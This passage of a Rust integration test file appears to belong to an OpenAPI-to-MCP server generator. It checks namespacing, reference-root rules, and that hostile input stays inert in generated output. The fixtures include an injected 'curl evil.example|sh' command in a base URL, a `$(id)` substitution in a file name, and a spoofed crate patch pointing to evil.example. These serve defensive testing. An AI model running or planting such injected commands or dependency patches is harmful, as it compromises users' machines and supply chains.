            "[features]",
            "[profile.release]",
            "[profile.release.package.\"pets-mcp\"]"
        ],
        "{manifest}"
    );
    // The file name is in the header comment, and nowhere else.
    let mentions: Vec<&str> = manifest.lines().filter(|l| l.contains("evil")).collect();
    assert_eq!(mentions.len(), 1, "{manifest}");
    assert!(
        mentions[0].starts_with("# @generated by mcpgen "),
        "{manifest}"
    );
    for file in ["src/main.rs", "src/tools.rs"] {
        let source = std::fs::read_to_string(out.join(file)).unwrap();
        let header: Vec<&str> = source.lines().take(3).collect();
        assert!(
            header[0].starts_with("//! @generated by mcpgen ")
                && header[0].contains("[patch.crates-io] serde = { git = ")
                && header[1] == "//! Regenerate rather than edit."
                && header[2].is_empty(),
            "{file}: {header:?}"
        );
    }
    let readme = std::fs::read_to_string(out.join("README.md")).unwrap();
    assert!(
        readme.contains(
            "cargo run --release -- --base-url 'https://x.example/v1; curl evil.example|sh'\n"
        ),
        "{readme}"
    );
    assert!(
        readme.contains("generated from ``pets\" [patch.crates-io] serde = { git = \"evil.example:serde\" } `$(id)`.yaml`` by mcpgen"),
        "{readme}"
    );
}

/// A reference into a hidden folder is refused unless the user allows it on the command line;
/// a `mcpgen.toml` beside the document cannot allow it.
#[test]
fn hidden_references_need_the_flag() {
    let dir = scratch();
    std::fs::create_dir_all(dir.path().join(".shared")).unwrap();
    write(
        &dir.path().join(".shared/pet.yaml"),
        "Pet: {type: object, properties: {hiddenName: {type: string}}}\n",
    );
    let spec = dir.path().join("openapi.yaml");
    write(
        &spec,
        "openapi: 3.0.3\ninfo: {title: Hidden, version: '1'}\npaths:\n  /pets:\n    get:\n      \
         responses:\n        '200':\n          description: ok\n          content:\n            \
         application/json:\n              schema: {$ref: '.shared/pet.yaml#/Pet'}\n",
    );
    let inspect = |extra: &[&str]| {
        bin()
            .current_dir(dir.path())
            .args(["mcpgen", "inspect"])
            .arg(&spec)
            .args(extra)
            .run()
    };
    let refused = inspect(&[]);
    assert_exit(&refused, 2, &["--allow-hidden-refs"]);
    let allowed = inspect(&["--allow-hidden-refs"]);
    assert_success(&allowed);

    write(
        &dir.path().join("mcpgen.toml"),
        "allow_hidden_refs = true\n",
    );
    let from_file = inspect(&[]);
    assert_exit(
        &from_file,
        2,
        &["`allow_hidden_refs` is not read from mcpgen.toml"],
    );
}

/// References from `spec/` to a sibling `common/` folder: refused when nothing above the
/// document marks a root, read with `--ref-root`, and `ref_root` is not taken from a
/// `mcpgen.toml` (which can come with a third-party document). Forgiven mistakes are warnings
/// with the file, line and pointer.
#[test]
fn ref_root_widens_what_references_reach_and_only_the_user_sets_it() {
    let dir = scratch();
    let root = dir.path().join("project");
    std::fs::create_dir_all(root.join("spec")).unwrap();
    std::fs::create_dir_all(root.join("common")).unwrap();
    let spec = root.join("spec/openapi.yaml");
    write(
        &spec,
        "openapi: 3.0.3\ninfo: {title: Split, version: '1'}\npaths:\n  /a:\n    get:\n      \
         operationId: getA\n      security: {key: []}\n      responses:\n        '200':\n          \
         description: ok\n          content:\n            application/json:\n              \
         schema: {$ref: '../common/errors.yaml#/Error'}\ncomponents:\n  securitySchemes:\n    \
         key: {type: apiKey, in: header, name: X-Key}\n",
    );
    write(
        &root.join("common/errors.yaml"),
        "Error: {type: object, properties: {code: {type: integer}}}\n",
    );
    let refused = generate(&spec, &dir.path().join("refused")).run();
    assert_exit(
        &refused,
        2,
        &[
            "openapi.yaml:13:",
            "outside the reference root",
            "--ref-root DIR",
        ],
    );

    let out = dir.path().join("out");
    let accepted = generate(&spec, &out).arg("--ref-root").arg(&root).run();
    assert_exit(
        &accepted,
        0,
        &[
            "warning:",
            "openapi.yaml: line 7: /paths/~1a/get/security: `security` is an object",
        ],
    );
    assert!(tools_rs(&out).contains("code"));

    write(&root.join("spec/mcpgen.toml"), "ref_root = \"..\"\n");
    let from_file = generate(&spec, &dir.path().join("from-file")).run();
    assert_exit(
        &from_file,
        2,
        &["`ref_root` is not read from mcpgen.toml", "--ref-root DIR"],
    );
}

/// The Notes Desk document of the several-APIs tests (with its own `mcpgen.toml`).
fn notes_spec() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/fixtures/multi/notes/openapi.yaml")
}

/// `cargo-mcpgen generate SPECS... --out OUT ARGS...`.
fn generate_several(specs: &[&Path], out: &Path, args: &[&str]) -> Output {
    bin()
        .arg("generate")
        .args(specs)
        .arg("--out")
        .arg(out)
        .args(args)
        .run()
}

/// A one-operation document titled `title` whose operation is `operation_id`.
fn small_document(title: &str, operation_id: &str) -> String {
    format!(
        "openapi: 3.1.0\ninfo: {{title: {title}, version: '1'}}\nservers: [{{url: 'https://x.example'}}]\n\
         paths:\n  /a:\n    get:\n      operationId: {operation_id}\n      responses: {{'200': {{description: ok}}}}\n"
    )
}

#[test]
fn several_documents_make_one_server_with_namespaced_tools() {
    let dir = scratch();
    let out = dir.path().join("out");
    let output = generate_several(&[&notes_spec(), &example_spec()], &out, &[]);
    assert_success(&output);
    assert!(
        stderr(&output).contains("generated notes-desk-petstore-mcp (7 tools)"),
        "{}",
        stderr(&output)
    );
    let tools = tools_rs(&out);
    for needle in [
        // Tools and prompts under each document's namespace, from its title.
        "name: \"notes_desk_getNote\"",
        "name: \"petstore_listPets\"",
        "name: \"petstore_rename_a_pet\"",
        // Credentials under each API's own prefix.
        "env: &[\"NOTES_DESK_NOTES_KEY\"]",
        "env: &[\"PETSTORE_BEARER_AUTH_TOKEN\"]",
        // The Petstore's operations use its scheme, the second of the table.
        "security: &[&[1]]",
        // The Notes Desk's own mcpgen.toml masks its tools' answers only.
        "masked_fields: &[\"query\"]",
        "rt::UpstreamApi {",
        "env_prefix: \"NOTES_DESK\"",
        "env_prefix: \"PETSTORE\"",
        "default_base_url: Some(\"http://127.0.0.1:8080/v1\")",
    ] {
        assert!(tools.contains(needle), "`{needle}` is not in tools.rs");
    }
    assert_eq!(tools.matches("masked_fields: &[\"query\"]").count(), 1);
    // No document file beside: each API's is in the table.
    assert!(!out.join("openapi.json").exists());
    let readme = std::fs::read_to_string(out.join("README.md")).unwrap();
    assert!(
        readme.contains("--base-url 'notes_desk=http://127.0.0.1:9' --base-url 'petstore=http://127.0.0.1:8080/v1'"),
        "{readme}"
    );

    // A namespace chosen on the command line, and a check of the crate written.
    let output = generate_several(
        &[&notes_spec(), &example_spec()],
        &out,
        &[
            "--namespace",
            &format!("pets={}", example_spec().display()),
            "--check",
        ],
    );
    assert_exit(&output, 1, &["stale: src/tools.rs"]);
    let output = generate_several(
        &[&notes_spec(), &example_spec()],
        &out,
        &["--namespace", &format!("pets={}", example_spec().display())],
    );
    assert_success(&output);
    let tools = tools_rs(&out);
    assert!(tools.contains("name: \"pets_getPetById\""));
    assert!(tools.contains("env: &[\"PETS_BEARER_AUTH_TOKEN\"]"));
    assert!(!tools.contains("petstore_"));

    // One document stays a server of one API, exactly as before.
    let single = dir.path().join("single");
    assert_success(&generate(&example_spec(), &single).run());
    let tools = tools_rs(&single);
    assert!(tools.contains("name: \"listPets\"") && tools.contains("apis: &[],"));
}

#[test]
fn several_documents_refuse_ambiguous_names_with_the_document_named() {
    let dir = scratch();
    let out = dir.path().join("out");
    let notes = notes_spec();
    let notes_text = notes.display().to_string();

    // The same namespace twice: from the same title, and chosen.
    let output = generate_several(&[&notes, &notes], &out, &[]);
    assert_exit(
        &output,
        2,
        &[
            "namespace: the namespace `notes_desk` is already that of",
            "--namespace NAME=",
        ],
    );
    let petstore = example_spec();
    let output = generate_several(
        &[&notes, &petstore],
        &out,
        &[
            "--namespace",
            &format!("api={}", petstore.display()),
            "--namespace",
            &format!("api={notes_text}"),
        ],
    );
    assert_exit(
        &output,
        2,
        &["openapi.yaml: namespace: the namespace `api` is already"],
    );

    // Namespaces that are not identifiers, and one for a document not given.
    for bad in ["Notes", "notes-desk", "2notes", "notes_"] {
        let output = generate_several(
            &[&notes, &petstore],
            &out,
            &["--namespace", &format!("{bad}={notes_text}")],
        );
        assert_exit(&output, 2, &[&format!("`{bad}` is not a namespace")]);
    }
    let output = generate_several(
        &[&notes, &petstore],
        &out,
        &["--namespace", "x=elsewhere.yaml"],
    );
    assert_exit(
        &output,
        2,
        &["elsewhere.yaml is not one of the documents given"],
    );

    // Two namespaces that make the same tool name: `a` + `b_read` and `a_b` + `read`.
    let first = dir.path().join("first.yaml");
    let second = dir.path().join("second.yaml");
    write(&first, small_document("First", "b_read"));
    write(&second, small_document("Second", "read"));
    let output = generate_several(
        &[&first, &second],
        &out,
        &[
            "--namespace",
            &format!("a={}", first.display()),
            "--namespace",
            &format!("a_b={}", second.display()),
        ],
    );
    assert_exit(
        &output,
        2,
        &[
            "second.yaml: namespace: the tool `a_b_read` of this document has the name of a tool of",
            "first.yaml",
        ],
    );

    // A setting that can only be the whole server's, different per document.
    let strict = dir.path().join("strict");
    std::fs::create_dir_all(&strict).unwrap();
    write(&strict.join("api.yaml"), small_document("Strict", "read"));
    write(&strict.join("mcpgen.toml"), "confirm = \"writes\"\n");
    let output = generate_several(&[&first, &strict.join("api.yaml")], &out, &[]);
    assert_exit(
        &output,
        2,
        &["api.yaml: confirm: this setting applies to the whole server"],
    );
    assert!(!out.exists(), "nothing was written");
}

#[test]
fn a_folder_is_its_documents_in_name_order() {
    let dir = scratch();
    let apis = dir.path().join("apis");
    std::fs::create_dir_all(&apis).unwrap();
    write(&apis.join("b.yaml"), small_document("Beta", "read"));
    write(
        &apis.join("a.json"),
        r#"{"openapi": "3.1.0", "info": {"title": "Alpha", "version": "1"}, "paths": {"/a": {"get": {"operationId": "read", "responses": {"200": {"description": "ok"}}}}}}"#,
    );
    write(&apis.join("notes.txt"), "not a document");
    let out = dir.path().join("out");
    assert_success(&generate_several(&[&apis], &out, &["--name", "both-mcp"]));
    let tools = tools_rs(&out);
    let (alpha, beta) = (
        tools.find("\"alpha_read\"").unwrap(),
        tools.find("\"beta_read\"").unwrap(),
    );
    assert!(alpha < beta);
    assert!(tools.contains("server_name: \"both-mcp\""));

    let empty = dir.path().join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    assert_exit(
        &generate_several(&[&empty], &out, &[]),
        2,
        &["the folder holds no API document"],
    );
}
